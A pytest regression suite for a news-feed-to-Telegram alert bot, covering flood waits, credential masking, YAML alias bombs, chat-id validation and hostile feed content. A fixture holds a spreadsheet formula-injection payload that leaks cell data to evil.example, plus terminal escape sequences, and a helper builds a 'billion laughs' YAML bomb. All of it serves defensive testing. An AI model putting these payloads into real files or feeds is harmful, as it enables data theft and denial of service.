"""What a hostile tester broke, each reproduced through the real `postwatch` command line: local
feed servers, a real database, python-telegram-bot against the fake Bot API server."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from cli_helpers import export_rows, postwatch, write_config
from fakes.feed_server import FeedServer
from fakes.telegram_api import FakeTelegram
from fakes.telegram_rules import visible_text

from bot.config.build import build_config
from bot.config.load import load_config
from bot.config.values import credentials_in, mask_password
from bot.errors import ConfigError

CHAT = "-1001234567890"


def rss(*texts: str) -> str:
    items = "".join(
        f"<item><guid>g{n}</guid><link>https://wire.example/{n}</link><title>Wire {n}</title>"
        f"<description>{text}</description></item>"
        for n, text in enumerate(texts)
    )
    return (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>W</title>{items}</channel></rss>'
    )


def wire_config(
    tmp_path: Path, db_url: str, feed_server: FeedServer, telegram: FakeTelegram, **extra: Any
) -> tuple[Path, dict[str, str]]:
    document: dict[str, Any] = {
        "database_url": db_url,
        "telegram": {"token": "${TELEGRAM_BOT_TOKEN}", "base_url": telegram.base_url},
        "network": {"allow_private_addresses": True, "timeout": "5s"},
        "defaults": {"every": "1m", "max_age": "36500d"},
        "channels": [{"id": "wire", "chat_id": CHAT}],
        "sources": [
            {"id": "wire", "kind": "rss", "url": feed_server.url("/rss"), "alert_backlog": True}
        ],
        "topics": [{"id": "ceasefire", "name": "Ceasefire", "query": "ceasefire"}],
        **extra,
    }
    return write_config(tmp_path / "postwatch.yaml", document), {
        "TELEGRAM_BOT_TOKEN": telegram.token
    }


def test_a_flood_wait_is_honoured_by_the_next_run(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    """Telegram answered 429 "retry after a day". The next `run --once`, seconds later, must
    not send into that wait (how bots get banned); what waits stays pending."""
    feed_server.route("/rss", rss("Ceasefire agreed", "Ceasefire holds"))
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    fake_telegram.fail_next("sendMessage", 1, 429, retry_after=86_400)

    first = postwatch("--config", str(config), "run", "--once", env=env)
    second = postwatch("--config", str(config), "run", "--once", env=env)

    assert (first.code, second.code) == (5, 5), first.stderr + second.stderr  # alerts wait
    assert len(fake_telegram.calls("sendMessage")) == 1  # the 429 itself, nothing after it
    assert "Telegram asked to wait" in second.stderr
    stats = postwatch("--config", str(config), "stats", env=env)
    assert "2 pending" in stats.stdout


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+psycopg://postwatch@127.0.0.1:1/db?password=hunter2-secret",
        "postgresql+psycopg://postwatch:hunter2-secret@127.0.0.1:1/db",
        "postgresql+psycopg://127.0.0.1:1/db?user=postwatch&PGPASSWORD=hunter2-secret",
        "postgresql+psycopg:///db?host=127.0.0.1&port=1&sslpassword=hunter2-secret",
        "postgresql+psycopg://postwatch@127.0.0.1:1/db?sslmode=disable&Password=hunter2-secret",
    ],
)
@pytest.mark.parametrize("command", [["run", "--once"], ["export"], ["stats"]])
def test_database_credentials_never_reach_an_error(
    tmp_path: Path, url: str, command: list[str]
) -> None:
    config = write_config(
        tmp_path / "postwatch.yaml",
        {
            "database_url": url,
            "sources": [{"id": "wire", "kind": "rss", "url": "https://wire.example/rss"}],
        },
    )
    result = postwatch("--config", str(config), *command)
    assert result.code == 3
    assert "cannot open the database" in result.stderr
    assert "hunter2" not in result.stderr + result.stdout


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql+psycopg://u:pw@db/x", "postgresql+psycopg://u:***@db/x"),
        ("postgresql+psycopg://u@db/x?password=pw", "postgresql+psycopg://u@db/x?password=***"),
        (
            "postgresql://db/x?user=u&PGPASSWORD=pw&a=1",
            "postgresql://db/x?user=u&PGPASSWORD=***&a=1",
        ),
        ("postgresql://db/x?ssl_password=pw", "postgresql://db/x?ssl_password=***"),
        ("postgresql://db/x?pass%77ord=pw", "postgresql://db/x?pass%77ord=***"),  # %77 is "w"
        ("postgresql://u:p%40w@db/x?api-key=key-1", "postgresql://u:***@db/x?api-key=***"),
        ("sqlite:///data/postwatch.db", "sqlite:///data/postwatch.db"),
        (
            "postgresql://db/x?options=-csearch_path%3Dx",
            "postgresql://db/x?options=-csearch_path%3Dx",
        ),
    ],
)
def test_every_form_of_url_credential_is_masked(url: str, shown: str) -> None:
    assert mask_password(url) == shown
    for secret in credentials_in(url):
        assert secret not in mask_password(url)


def test_a_config_never_prints_its_database_password() -> None:
    config = build_config(
        {
            "database_url": "postgresql+psycopg://u@db/x?password=hunter2",
            "telegram": {"token": "123456:" + "A" * 35},
            "sources": [{"id": "wire", "kind": "rss", "url": "https://wire.example/rss"}],
        },
        {},
    )
    assert "hunter2" not in repr(config)
    assert "A" * 35 not in repr(config)


def alias_bomb(levels: int) -> str:
    """The "billion laughs" of YAML: each level an anchored list of nine aliases of the last."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, levels):
        lines.append(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]")
    return "\n".join([*lines, f"sources: *l{levels - 1}", ""])


@pytest.mark.parametrize(
    ("document", "problem"),
    [
        (alias_bomb(9), "aliases expand to more than 1,000,000 values (an alias bomb?)"),
        ("sources: " + "[" * 20_000 + "]" * 20_000 + "\n", "nested deeper than 50 levels"),
        ("".join("  " * i + "a:\n" for i in range(5_000)), "nested deeper than 50 levels"),
    ],
)
def test_yaml_bombs_get_one_clear_problem_and_exit_2(
    tmp_path: Path, document: str, problem: str
) -> None:
    config = tmp_path / "postwatch.yaml"
    config.write_text(document)
    result = postwatch("--config", str(config), "check", timeout=60)
    assert result.code == 2
    (line,) = result.stderr.splitlines()
    assert line.endswith(problem)
    assert "Traceback" not in result.stderr


def test_a_reload_with_an_alias_bomb_changes_nothing(tmp_path: Path) -> None:
    config = tmp_path / "postwatch.yaml"
    config.write_text(alias_bomb(9))
    with pytest.raises(ConfigError) as refused:
        load_config(config, {})  # what SIGHUP calls; the running config then stays
    assert refused.value.problems[0].endswith("(an alias bomb?)")


def test_anchors_and_merge_keys_still_work(tmp_path: Path) -> None:
    config = tmp_path / "postwatch.yaml"
    config.write_text(
        "sources:\n"
        "  - &feed {kind: rss, every: 10m, id: a, url: 'https://a.example/rss'}\n"
        "  - {<<: *feed, id: b, url: 'https://b.example/rss'}\n"
    )
    loaded = load_config(config, {})
    assert [(s.id, s.every.total_seconds()) for s in loaded.sources] == [("a", 600), ("b", 600)]


HOSTILE_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Hostile",
    "items": [
        {
            "id": "f1",
            "url": "https://wire.example/f1",
            "title": '=HYPERLINK("https://evil.example/?leak="&A1,"ceasefire")',
            "content_text": "@SUM(1+1) ceasefire \x1b]0;pwned\x07 now \x1b[2J",
        },
        {"id": "f2", "url": "https://wire.example/f2", "content_text": "-2+3 ceasefire talks"},
    ],
}


def test_exports_and_terminal_output_carry_no_formulas_or_escapes(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    feed_server.route("/rss", json.dumps(HOSTILE_FEED), content_type="application/feed+json")
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    assert postwatch("--config", str(config), "run", "--once", env=env).code == 0

    exported = postwatch("--config", str(config), "export", "--format", "csv", env=env)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert {row["id"] for row in rows} == {"f1", "f2"}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    (first,) = [row for row in rows if row["id"] == "f1"]
    assert first["title"].startswith("'=HYPERLINK(")  # kept, shown as text
    assert "\x1b" not in exported.stdout

    for command in (["topics", "test", "ceasefire"], ["stories"], ["stats"], ["topics", "list"]):
        shown = postwatch("--config", str(config), *command, env={**env, "NO_COLOR": "1"})
        assert shown.code == 0, shown.stderr
        assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout, command


@pytest.mark.parametrize(
    "chat_id",
    ["12345678901234567890123456", "-0", "0", "-00123", "4503599627370496", "-5000000000000"],
)
def test_check_refuses_chat_ids_that_cannot_exist(tmp_path: Path, chat_id: str) -> None:
    config = write_config(
        tmp_path / "postwatch.yaml",
        {
            "channels": [{"id": "wire", "chat_id": chat_id}],
            "sources": [{"id": "wire", "kind": "rss", "url": "https://wire.example/rss"}],
        },
    )
    result = postwatch("--config", str(config), "check")
    assert result.code == 2
    (line,) = result.stderr.splitlines()
    assert f"channels[0].chat_id: '{chat_id}'" in line


@pytest.mark.parametrize(
    "chat_id", ["-1001234567890", "-1997852516351", "-999999999999", "-4012345", "4503599627370495"]
)
def test_check_accepts_every_kind_of_real_chat_id(chat_id: str) -> None:
    config = build_config(
        {
            "channels": [{"id": "wire", "chat_id": chat_id}],
            "sources": [{"id": "wire", "kind": "rss", "url": "https://wire.example/rss"}],
        },
        {},
    )
    assert config.channels[0].chat_id == chat_id


def test_a_retry_after_of_centuries_is_a_bounded_backoff(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    feed_server.route("/rss", "busy", status=503, headers={"Retry-After": "99999999999999999999"})
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    first = postwatch("--config", str(config), "run", "--once", env=env)
    assert first.code == 4  # a source failed
    assert "Traceback" not in first.stderr and "Overflow" not in first.stderr
    assert "source wire failed" in first.stderr
    feed_server.route("/rss", rss("Ceasefire agreed"))
    second = postwatch("--config", str(config), "run", "--once", env=env)
    assert len(feed_server.requests("/rss")) == 1  # waiting out the (clamped) Retry-After
    assert second.code == 4  # not polled: it waits out a backoff
    assert "1 waiting out a backoff" in second.stderr
    assert "Traceback" not in second.stderr


def test_sigterm_lets_a_poll_in_flight_finish(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    feed_server.route("/rss", rss("Ceasefire agreed"), delay=2.0)
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    process = subprocess.Popen(
        [sys.executable, "-m", "bot.cli", "--config", str(config), "run"],
        stderr=subprocess.PIPE,
        text=True,
        env={**{k: v for k, v in os.environ.items() if not k.startswith("POSTWATCH_")}, **env},
    )
    try:
        give_up = time.monotonic() + 60
        while feed_server.hits("/rss") == 0:  # the poll is on the wire (its answer is slow)
            assert time.monotonic() < give_up and process.poll() is None
            time.sleep(0.02)
        process.send_signal(signal.SIGTERM)
        _out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == 0, err
    assert "CancelledError" not in err and "Traceback" not in err
    assert "source wire: 1 new post" in err  # it finished, and stored what it fetched
    assert [row["id"] for row in export_rows(config)] == ["g0"]


def test_an_edit_for_a_relay_with_a_huge_name_keeps_the_post_text(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    original = (
        "Productive call with President Putin. We agreed to an immediate ceasefire on all "
        "energy and infrastructure, with an understanding that we will work quickly."
    )
    feed_server.route("/rss", rss(original))
    feed_server.route(
        "/relay",
        '<?xml version="1.0"?><rss version="2.0"><channel><title>R</title></channel></rss>',
    )
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    document = yaml.safe_load(config.read_text())
    document["sources"].append({"id": "relay", "kind": "rss", "url": feed_server.url("/relay")})
    write_config(config, document)
    assert postwatch("--config", str(config), "run", "--once", env=env).code == 0
    assert len(fake_telegram.sent_messages(CHAT)) == 1

    name = "N" * 5000
    feed_server.route(
        "/relay",
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>R</title><item><guid>r1</guid><dc:creator>{name}</dc:creator>"
        f"<link>https://x.example/r1</link><description>JUST IN: {original}</description>"
        "</item></channel></rss>",
    )
    assert postwatch("--config", str(config), "run", "--once", env=env).code == 0
    (edit,) = fake_telegram.calls("editMessageText")
    assert edit.status == 200
    shown = visible_text(str(edit.params["text"]))
    assert original in shown
    assert "Also posted by: " + "N" * 63 + "…" in shown


def test_hostile_characters_in_every_kind_become_stored_posts(
    tmp_path: Path, db_url: str, feed_server: FeedServer, fake_telegram: FakeTelegram
) -> None:
    """A control character in HTML, a lone surrogate in a JSON id or title, a NUL (which
    PostgreSQL text refuses), a link to "[your-server-ip]": each was an exception that cost the
    post (or the batch). Each is now a stored post."""
    json_feed = (
        '{"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": ['
        '{"id": "j\\ud800", "title": "Cease\\u0000fire", "url": "https://j.example/1",'
        ' "content_html": "<p>ceasefire\\u000bagreed, see http://[your-server-ip]:3000</p>"}]}'
    )
    feed_server.route("/rss", json_feed, content_type="application/feed+json")
    feed_server.route(
        "/rss2",
        '<?xml version="1.0"?><rss version="2.0"><channel><title>R</title><item><guid>r1</guid>'
        "<description>&lt;p&gt;truce&amp;#11;holds&lt;/p&gt;</description></item></channel></rss>",
    )
    account = {
        "id": "7",
        "username": "a",
        "acct": "a",
        "display_name": "A",
        "url": "https://m.example/@a",
    }
    status = {
        "id": "70",
        "created_at": "2026-03-18T14:02:11Z",
        "url": "https://m.example/@a/70",
        "content": "<p>peace\x0btalks</p>",
        "account": account,
    }
    feed_server.route(
        "/api/v1/accounts/lookup", json.dumps(account), content_type="application/json"
    )
    feed_server.route(
        "/api/v1/accounts/7/statuses", json.dumps([status]), content_type="application/json"
    )
    config, env = wire_config(tmp_path, db_url, feed_server, fake_telegram)
    document = yaml.safe_load(config.read_text())
    document["sources"] += [
        {"id": "rss2", "kind": "rss", "url": feed_server.url("/rss2")},
        {"id": "masto", "kind": "mastodon", "url": feed_server.url("/@a")},
    ]
    write_config(config, document)
    result = postwatch("--config", str(config), "run", "--once", env=env)
    assert result.code == 0, result.stderr
    assert "Traceback" not in result.stderr
    rows = {row["source"]: row for row in export_rows(config)}
    assert set(rows) == {"wire", "rss2", "masto"}
    assert rows["wire"]["id"] == "j\ufffd" and rows["wire"]["title"] == "Cease fire"
    assert "ceasefire agreed, see http://[your-server-ip]:3000" in rows["wire"]["text"]
    assert rows["rss2"]["text"] == "truce holds"
    assert rows["masto"]["text"] == "peace talks"
